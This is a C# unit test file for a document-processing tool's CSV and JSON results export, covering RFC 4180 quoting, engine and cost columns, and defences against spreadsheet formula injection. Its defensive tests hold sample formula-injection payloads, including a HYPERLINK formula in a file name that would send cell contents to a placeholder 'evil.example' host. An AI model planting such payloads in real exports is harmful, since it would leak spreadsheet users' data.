using DocFlow.Reports;
using DocFlow.UnitTests.Reports.Support;

namespace DocFlow.UnitTests.Reports;

public sealed class ResultsExportTests
{
    [Theory]
    [InlineData("plain", "plain")]
    [InlineData("", "")]
    [InlineData(null, "")]
    [InlineData("a,b", "\"a,b\"")]
    [InlineData("say \"hi\"", "\"say \"\"hi\"\"\"")]
    [InlineData("two\nlines", "\"two\nlines\"")]
    [InlineData("cr\rhere", "\"cr\rhere\"")]
    [InlineData("Müller € 1", "Müller € 1")]
    public void Quote_FollowsRfc4180(string? field, string expected) => Assert.Equal(expected, ResultsExport.Quote(field));

    [Fact]
    public void Csv_HasHeaderAndOneCrlfRecordPerDocument_WithInvariantNumbers()
    {
        var rows = new[]
        {
            Some.Row("inv, 1.pdf", ms: 1234, fields: new KeyFields
            {
                Supplier = "Acme \"Best\" GmbH", InvoiceId = "INV-7", InvoiceDate = "2025-03-14", DueDate = "2025-04-13",
                NetAmount = 1000m, TaxAmount = 190m, TotalAmount = 1190.5m, Currency = "EUR",
            }),
            Some.Row("receipt.jpg", type: "receipt", fields: new KeyFields { ReceiptDate = "2025-01-02", TotalAmount = 9.99m }),
            Some.Row("bad.bin", status: "failed", errorCode: "unsupported_type", errorMessage: "not a PDF, line 1\nline 2"),
        };

        var csv = ResultsExport.ToCsv(rows);

        var records = csv.Split("\r\n");
        Assert.Equal("file,status,type,pages,ocr_pages,ms,supplier,invoice_id,date,due_date,net,tax,total,currency,error_code,error_message,engine,cost", records[0]);
        Assert.Equal("\"inv, 1.pdf\",succeeded,invoice,1,0,1234,\"Acme \"\"Best\"\" GmbH\",INV-7,2025-03-14,2025-04-13,1000.00,190.00,1190.50,EUR,,,local,", records[1]);
        Assert.Equal("receipt.jpg,succeeded,receipt,1,0,100,,,2025-01-02,,,,9.99,,,,local,", records[2]);
        Assert.Equal("bad.bin,failed,,1,0,100,,,,,,,,,unsupported_type,\"not a PDF, line 1\nline 2\",local,", records[3]);
        Assert.Equal("", records[4]);
        Assert.All(records[..4], r => Assert.Equal(ResultsExport.CsvColumns.Count - 1, CountSeparators(r)));
    }

    [Fact]
    public void Csv_CarriesTheEngineAndCostOfEachDocument_CostEmptyWithoutAPrice()
    {
        var rows = new[]
        {
            new ResultRow { File = "long.pdf", Status = "succeeded", Pages = 20, Engine = "google-eu", Cost = 0.03m },
            new ResultRow { File = "cheap.pdf", Status = "succeeded", Pages = 3, Engine = "local", Cost = 0.0006m },
            new ResultRow { File = "free.pdf", Status = "succeeded", Pages = 2, Engine = "=evil" },
        };

        var records = ResultsExport.ToCsv(rows).Split("\r\n");

        Assert.EndsWith(",engine,cost", records[0]);
        Assert.EndsWith(",google-eu,0.03", records[1]);
        Assert.EndsWith(",local,0.0006", records[2]);
        Assert.EndsWith(",'=evil,", records[3]); // a text column: neutralised
    }

    [Fact]
    public async Task Json_CarriesEngineAndCost_AndOmitsAMissingCost()
    {
        using var stream = new MemoryStream();
        await ResultsExport.WriteJsonAsync([new ResultRow { File = "a.pdf", Engine = "eu", Cost = 0.0015m }, new ResultRow { File = "b.pdf" }],
            stream, CancellationToken.None);

        using var json = System.Text.Json.JsonDocument.Parse(stream.ToArray());
        Assert.Equal("eu", json.RootElement[0].GetProperty("engine").GetString());
        Assert.Equal(0.0015m, json.RootElement[0].GetProperty("cost").GetDecimal());
        Assert.Equal("local", json.RootElement[1].GetProperty("engine").GetString());
        Assert.False(json.RootElement[1].TryGetProperty("cost", out _));
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil\",\"x\")", "'=HYPERLINK(\"http://evil\",\"x\")")]
    [InlineData("+1+1", "'+1+1")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("\r=1", "'\r=1")]
    [InlineData("a=1", "a=1")]
    [InlineData("'quoted", "'quoted")]
    [InlineData(" =1", " =1")]
    [InlineData("", "")]
    [InlineData(null, null)]
    public void Neutralise_PrefixesFormulaTriggersWithAQuote(string? cell, string? expected) => Assert.Equal(expected, ResultsExport.Neutralise(cell));

    [Fact]
    public void Csv_NeutralisesFormulasInTextColumns_AndKeepsNegativeAmountsAsNumbers()
    {
        var rows = new[]
        {
            Some.Row("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\").pdf", fields: new KeyFields
            {
                Supplier = "@SUM(1+1)", InvoiceId = "+49 30 1234", InvoiceDate = "2025-03-14", DueDate = "-1",
                NetAmount = -10m, TaxAmount = -1.9m, TotalAmount = -11.9m, Currency = "\tEUR",
            }),
            Some.Row("-cmd.pdf", status: "failed", errorCode: "corrupt", errorMessage: "=1+2, then \"more\""),
        };

        var records = ResultsExport.ToCsv(rows).Split("\r\n");

        Assert.Equal("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\").pdf\",succeeded,invoice,1,0,100,'@SUM(1+1),'+49 30 1234,2025-03-14,'-1,-10.00,-1.90,-11.90,'\tEUR,,,local,",
            records[1]);
        Assert.Equal("'-cmd.pdf,failed,,1,0,100,,,,,,,,,corrupt,\"'=1+2, then \"\"more\"\"\",local,", records[2]);
        // No field of any record starts with a formula trigger, quoted or not, except the numbers DocFlow wrote.
        foreach (var record in records[1..3])
            foreach (var field in SplitFields(record))
            {
                var value = field.StartsWith('"') ? field[1..] : field;
                Assert.True(value.Length == 0 || !ResultsExport.FormulaTriggers.Contains(value[0]) || decimal.TryParse(value, System.Globalization.CultureInfo.InvariantCulture, out _), field);
            }
    }

    [Fact]
    public async Task Json_HoldsTheSameRows()
    {
        var rows = new[] { Some.Row("a.pdf", fields: Some.Fields("Acme", 12.5m, "EUR", "INV-1")), Some.Row("b.pdf", status: "failed", errorCode: "corrupt") };
        using var stream = new MemoryStream();

        await ResultsExport.WriteJsonAsync(rows, stream, CancellationToken.None);

        using var json = System.Text.Json.JsonDocument.Parse(stream.ToArray());
        var items = json.RootElement.EnumerateArray().ToList();
        Assert.Equal(2, items.Count);
        Assert.Equal("a.pdf", items[0].GetProperty("file").GetString());
        Assert.Equal(12.5m, items[0].GetProperty("fields").GetProperty("totalAmount").GetDecimal());
        Assert.Equal("corrupt", items[1].GetProperty("errorCode").GetString());
        Assert.False(items[0].TryGetProperty("output", out _));
    }

    /// <summary>The raw fields of one record (split at commas outside quotes, quotes kept).</summary>
    private static List<string> SplitFields(string record)
    {
        var fields = new List<string>();
        var start = 0;
        var quoted = false;
        for (var i = 0; i < record.Length; i++)
        {
            if (record[i] == '"') quoted = !quoted;
            else if (record[i] == ',' && !quoted)
            {
                fields.Add(record[start..i]);
                start = i + 1;
            }
        }
        fields.Add(record[start..]);
        return fields;
    }

    /// <summary>Commas outside quoted fields.</summary>
    private static int CountSeparators(string record)
    {
        var n = 0;
        var quoted = false;
        foreach (var ch in record)
        {
            if (ch == '"') quoted = !quoted;
            else if (ch == ',' && !quoted) n++;
        }
        return n;
    }
}
